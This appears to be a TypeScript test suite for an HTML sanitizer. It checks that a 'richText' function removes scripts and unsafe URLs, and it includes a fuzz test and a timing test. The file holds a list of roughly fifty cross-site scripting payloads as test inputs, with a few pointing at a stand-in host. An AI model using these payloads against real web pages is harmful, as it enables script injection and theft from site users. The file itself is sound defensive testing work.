import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { withoutEntities } from "./plain-text.ts";
import { richText } from "./rich-text.ts";

const said: readonly (readonly [text: string, html: string])[] = [
  ["Holds 350 ml.", "Holds 350 ml."],
  ["Salt & pepper <3, 5 > 4", "Salt &amp; pepper &lt;3, 5 &gt; 4"],
  ["Salt &amp; pepper", "Salt &amp; pepper"],
  ["One\ntwo\n\nthree\r\n \r\nfour", "<p>One<br />two</p>\n<p>three</p>\n<p>four</p>"],
  ["<b>Bold</b>\nline", "<b>Bold</b><br />line"],
  ["<p>One</p>\n<p>two</p>", "<p>One</p>\n<p>two</p>"],
  ["<p onclick='x()' style='color:red'>Hi</p><script>x()</script>", "<p>Hi</p>"],
  ["open <img src=x onerror=x() ", "open &lt;img src=x onerror=x()"],
  ["", ""],
];
for (const [text, html] of said) test(text || "nothing", () => assert.equal(richText(text), html));

// Each runs a script, sends a form elsewhere or loads a page in some browser, where it stands in a page as it is.
const hostile = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//e.example/x.js></ScRiPt>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  '<img """><script>alert(1)</script>">',
  "<img src='javascript:alert(1)'>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='//e.example' target=_blank>x</a>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
  "<form action='https://e.example'><input name=card><button formaction='javascript:alert(1)'>x</button></form>",
  "<base href='https://e.example/'><meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=stylesheet href=//e.example>",
  "<style>@import '//e.example'; * { background: url(javascript:alert(1)) }</style>",
  "<div style='background:url(javascript:alert(1));position:fixed'>x</div>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
  "<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>",
  "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
  "<p/onmouseover=alert(1)>x</p><b\fonclick=alert(1)>x</b>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
  "<title></title><img src=x onerror=alert(1)></title>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  '<a href="x" title=\'"><img src=x onerror=alert(1)>\'>x</a>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<b>&lt;img src=x onerror=alert(1)&gt;</b>",
  "&#60;img src=x onerror=alert(1)&#62;",
  "<template><script>alert(1)</script></template>",
  "<p is='x-y' slot=a part=b autofocus contenteditable>x</p>",
];

const TAGS = new Set(
  (
    "h1 h2 h3 h4 h5 h6 p br hr blockquote pre code div span strong b em i u s del ins sub sup small mark abbr cite q " +
    "ul ol li dl dt dd a img figure figcaption picture source table caption colgroup col thead tbody tfoot tr th td details summary"
  ).split(" "),
);
const ATTRIBUTES = new Set(
  (
    "id class dir lang title href target rel src alt width height loading type media start reversed value colspan rowspan scope " +
    "span open cite"
  ).split(" "),
);
const SCHEMES = new Set(["http:", "https:", "mailto:", "tel:"]);
const HERE = "https://shop.example/";

// The HTML is read by a grammar that is stricter than any browser's: each `<` begins a known tag, each attribute stands in quotes.
function assertHarmless(html: string): void {
  const rest = html.replaceAll(
    /<(\/?)([a-z][a-z0-9]*)((?: [a-z]+(?:="[^"<>]*")?)*)( \/)?>/g,
    (tag, _close, name, attributes) => {
      assert.ok(TAGS.has(name), tag);
      for (const [, attribute, value = ""] of attributes.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)) {
        assert.ok(ATTRIBUTES.has(attribute), tag);
        if (!["href", "src", "cite"].includes(attribute)) continue;
        // As a browser reads it: it drops tabs and line breaks, and takes a backslash for a slash.
        const url = URL.parse(withoutEntities(value), HERE);
        assert.ok(!url || SCHEMES.has(url.protocol), tag);
        if (value.startsWith("//")) assert.fail(tag);
      }
      return "";
    },
  );
  assert.doesNotMatch(rest, /[<>]/, html);
}

for (const text of hostile) test(text, () => assertHarmless(richText(text)));

const pieces = fc.constantFrom(
  ...hostile,
  ..."< > </ /> <! <!-- --> \" ' = & ; : ` \\ \n \0".split(" "),
  ...[
    "<p",
    "<a href=",
    "<img src=",
    "javascript:",
    "onerror=",
    "alert(1)",
    "<b>",
    "</b>",
    "<script>",
    "&lt;",
    "&#x3c;",
    "\u2028",
  ],
);
test("nothing that is put together of hostile pieces becomes more than text, links and pictures", () => {
  fc.assert(
    fc.property(fc.array(fc.oneof(pieces, fc.string({ unit: "binary" })), { maxLength: 12 }), (parts) => {
      const html = richText(parts.join(""));
      assertHarmless(html);
      assertHarmless(richText(html));
    }),
    { numRuns: 2_000 },
  );
});

test("what is sanitized stays as it is when it is sanitized again", () => {
  for (const text of hostile) {
    const html = richText(text);
    if (/<[a-z]/.test(html)) assert.equal(richText(html), html);
  }
});

test("the time grows with the length alone", () => {
  const shapes = [
    "<b>",
    "<",
    "<!--",
    "<a href='",
    "&",
    "<div ",
    "</p>",
    "<table><tr>",
    '"',
    "<p\n",
    "\n \n",
    "&#60;",
    "<![CDATA[",
  ];
  for (const shape of shapes) {
    const cost = (length: number) => {
      const text = `<b>${length}</b>${shape.repeat(Math.floor(length / shape.length))}`;
      const begun = process.cpuUsage();
      richText(text);
      const { user, system } = process.cpuUsage(begun);
      return user + system;
    };
    cost(25_000);
    const [few, many] = [cost(25_001), cost(100_000)];
    assert.ok(many < 40 * few + 500_000, `${shape}: ${few} and ${many} µs`);
  }
});
